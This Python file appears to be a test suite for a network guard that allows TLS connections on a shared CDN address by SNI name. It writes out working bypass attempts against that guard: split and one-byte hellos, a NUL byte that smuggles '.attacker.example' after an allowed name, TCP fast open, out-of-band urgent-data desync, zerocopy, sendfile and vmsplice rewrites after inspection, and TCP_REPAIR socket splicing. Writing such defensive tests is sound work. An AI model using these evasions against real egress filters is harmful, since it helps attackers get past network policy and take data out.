# SPDX-License-Identifier: MIT
"""Port 443 of an allowed address that others share: only the name in the hello says whose connection it is."""
import mmap
import os
import socket
import struct
import time

import craft
from kernel import (IP_TTL, IPV6_UNICAST_HOPS, MSG_FASTOPEN, MSG_ZEROCOPY, SO_ZEROCOPY, TCP_FASTOPEN_NO_COOKIE,
                    TCP_QUEUE_SEQ, TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_REPAIR_WINDOW, vmsplice)
from table import attack

THEME = "TLS on a shared address"
OURS, OTHER = "files.cdn.example", "tenant.cdn.example"


def tls(what, reason, **more):
    """An attack whose function makes the first flight, in pieces."""
    def enter(make):
        def act(t):
            s = t.connected(t.shared, 443)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in make(t):
                s.send(piece)
                time.sleep(0.02)
            s.settimeout(0.4)
            s.recv(1)
        act.__name__ = make.__name__
        return attack(THEME, what, "cgroup", reason, **more)(act)
    return enter


@tls("another tenant's name", "tls-name-not-allowed")
def tls_name(t):
    return [craft.hello(t.marker, craft.server_name(OTHER))]


@tls("no name", "tls-no-name")
def tls_no_name(t):
    return [craft.hello(t.marker)]


@tls("an encrypted hello (ECH) behind an allowed outer name", "tls-encrypted-hello", families=(4,))
def tls_encrypted(t):
    return [craft.hello(t.marker, craft.server_name(OURS),
                        craft.extension(0xFE0D, b"\0\0\1\0\1\0\0\x20" + b"e" * 32 + b"\0\x10" + b"p" * 16))]


@tls("another tenant's name in one-byte writes", "tls-name-not-allowed", families=(4,))
def tls_split(t):
    data = craft.hello(b"", craft.server_name(OTHER), session=t.marker * 4)
    return [data[i:i + 1] for i in range(30)] + [data[30:]]


@tls("two names, the allowed one first", "tls-not-tls", families=(4,))
def tls_two_names(t):
    return [craft.hello(t.marker, craft.server_name(OURS), craft.server_name(OTHER))]


@tls("two entries in one list of names", "tls-not-tls", families=(4,))
def tls_two_entries(t):
    entries = b"".join(struct.pack("!BH", 0, len(n)) + n.encode() for n in (OURS, OTHER))
    return [craft.hello(t.marker, craft.extension(0, struct.pack("!H", len(entries)) + entries))]


@tls("an allowed name with a zero and more behind it", "tls-no-name", families=(4,))
def tls_zero_in_name(t):
    return [craft.hello(t.marker, craft.server_name(OURS + "\0.attacker.example"))]


@tls("plain HTTP", "tls-not-tls")
def tls_plain(t):
    return [b"GET /" + t.marker + b" HTTP/1.1\r\nHost: " + OTHER.encode() + b"\r\n\r\n"]


@tls("an SSL 2 hello, which has no names", "tls-not-tls", families=(4,))
def tls_ssl2(t):
    body = b"\1\3\3\0\3\0\0\0\x20\0\0\x2f" + t.marker * 4
    return [struct.pack("!H", 0x8000 | len(body)) + body]


@tls("application data as the first record", "tls-not-tls", families=(4,))
def tls_data_first(t):
    return [b"\x17\3\3\0\x08" + t.marker]


@tls("a hello that never ends", "tls-incomplete", families=(4,))
def tls_endless(t):
    return [b"\x16\3\1\x3f\xf0\1\0\x7f\xff\3\3" + t.marker * 512 for _ in range(8)]


@attack(THEME, "another tenant's name in the first segment (fast open)", "cgroup", "tls-in-syn")
def tls_fast_open(t):
    s = t.socket(socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    s.sendto(craft.hello(t.marker, craft.server_name(OTHER)), MSG_FASTOPEN, (t.shared, 443))
    s.recv(1)


@attack(THEME, "a socket that spoke an allowed name, connected anew", "cgroup", "tls-name-not-allowed", families=(4,))
def tls_reconnected(t):
    s = t.connected(t.shared, 443)
    s.send(craft.hello(b"", craft.server_name(OURS)))
    s.recv(1)
    disconnect(s)
    s.connect((t.shared, 443))
    s.send(craft.hello(t.marker, craft.server_name(OTHER)))
    s.recv(1)


@attack(THEME, "a port of its own allowed by no rule (8443)", "connect", "port-not-allowed", families=(4,),
        unseen="nobody listens there: it is a bare SYN")
def tls_other_port(t):
    t.connected(t.shared, 8443, 0.5).send(t.marker)


def disconnect(s):
    from kernel import checked, libc
    checked(libc.connect(s.fileno(), struct.pack("H14x", socket.AF_UNSPEC), 16), "connect")


def two_faced():
    """A hello that names OURS, and OTHER to who does not see the last byte of its random part: bytes, and that byte's
    place."""
    # padding, whose byte comes later
    theirs = craft.extensions(craft.server_name(OTHER)) + struct.pack("!HH", 21, 1)
    ours = craft.extensions(craft.server_name(OURS)) + struct.pack("!HH", 0xFAFA, len(theirs))
    ciphers = struct.pack("!HH", 2, 0xC02B)
    after = ciphers + b"\1\0" + struct.pack("!H", len(ours) + len(theirs)) + ours
    # What they read from the session's first byte on: no session, a cipher, and an extension over all that is ours.
    filler = 32 - (1 + 4 + 2 + 2 + 4)
    cover = struct.pack("!HH", 0xFAFA, filler + len(after))
    length = struct.pack("!H", len(cover) + filler + len(after) + len(theirs) + 1)
    session = b"\0" + ciphers + b"\1\0" + length + cover + bytes(filler)
    return session, after, theirs


@attack(THEME, "urgent data: a byte that the guard reads and the server skips, so that the two read different names",
        "cgroup", "tls-not-tls", families=(4,))
def tls_urgent(t):
    session, after, theirs = two_faced()
    body = b"\3\3" + t.marker.ljust(32, b"r") + bytes([len(session)]) + session + after + theirs
    data = b"\x16\3\1" + struct.pack("!H", len(body) + 4) + b"\1" + len(body).to_bytes(3, "big") + body
    s = t.connected(t.shared, 443)
    urgent = 5 + 4 + 2 + 32
    s.send(data[:urgent], socket.MSG_OOB)
    s.send(data[urgent:])
    time.sleep(0.1)
    s.send(b"\0")
    if s.recv(1) != b"\x16":
        raise ConnectionError("the server did not take it")


def changed_behind(t, first, then):
    """Lets the look see one hello that the first router drops, and the server another."""
    s = t.connected(t.shared, 443)
    hops = (socket.IPPROTO_IP, IP_TTL) if t.family == 4 else (socket.IPPROTO_IPV6, IPV6_UNICAST_HOPS)
    s.setsockopt(*hops, t.hops)
    first(s)
    time.sleep(0.05)
    then()
    s.setsockopt(*hops, 64)
    if s.recv(1) != b"\x16":
        raise ConnectionError("the server did not take it")


@attack(THEME, "a page changed between the look and the retransmission (MSG_ZEROCOPY)", "cgroup", "shared-pages")
def tls_zerocopy_changed(t):
    seen, sent = pair(t)
    page = mmap.mmap(-1, 4096)
    page[:len(seen)] = seen

    def first(s):
        s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
        s.send(memoryview(page)[:len(seen)], MSG_ZEROCOPY)

    def then():
        page[:len(sent)] = sent
    changed_behind(t, first, then)


@attack(THEME, "a file changed between the look and the retransmission (sendfile)", "cgroup", "shared-pages")
def tls_sendfile_changed(t):
    seen, sent = pair(t)
    fd = os.memfd_create("oh")
    os.write(fd, seen)
    changed_behind(t, lambda s: os.sendfile(s.fileno(), fd, 0, len(seen)), lambda: os.pwrite(fd, sent, 0))


@attack(THEME, "memory changed between the look and the retransmission (vmsplice)", "cgroup", "shared-pages",
        families=(4,))
def tls_vmsplice_changed(t):
    seen, sent = pair(t)
    page = mmap.mmap(-1, 4096)
    page[:len(seen)] = seen
    out, into = os.pipe()

    def first(s):
        vmsplice(into, page, len(seen))
        os.splice(out, s.fileno(), len(seen))

    def then():
        page[:len(sent)] = sent
    changed_behind(t, first, then)


def pair(t):
    """Two hellos of one length: for our name, and for the other with the data."""
    pad = len(OTHER) - len(OURS)
    seen = craft.hello(b"", craft.server_name(OURS), craft.extension(21, bytes(pad + 8)))
    sent = craft.hello(t.marker, craft.server_name(OTHER), craft.extension(21, bytes(8)))
    assert len(seen) == len(sent)
    return seen, sent


@attack(THEME, "a connection put into a socket that spoke an allowed name (TCP_REPAIR)", "cgroup", "tls-incomplete",
        families=(4,), caps=("NET_ADMIN",))
def tls_repaired(t):
    old, new = t.connected(t.shared, 443), t.connected(t.shared, 443)
    old.send(craft.hello(b"", craft.server_name(OURS)))
    old.recv(1)
    repair(old)
    disconnect(old)
    repair(new)
    state = {}
    for queue in (1, 2):        # receive, send
        new.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        state[queue] = new.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4)
    window = new.getsockopt(socket.IPPROTO_TCP, TCP_REPAIR_WINDOW, 20)
    local = new.getsockname()
    new.close()
    old.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    repair(old)
    old.bind(local)
    for queue, seq in state.items():
        old.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        old.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, seq)
    old.setblocking(True)
    old.connect((t.shared, 443))
    old.settimeout(1)
    old.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_WINDOW, window)
    old.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, -1)
    old.send(craft.hello(t.marker, craft.server_name(OTHER)))
    if old.recv(1) != b"\x16":
        raise ConnectionError("the server did not take it")


def repair(s):
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
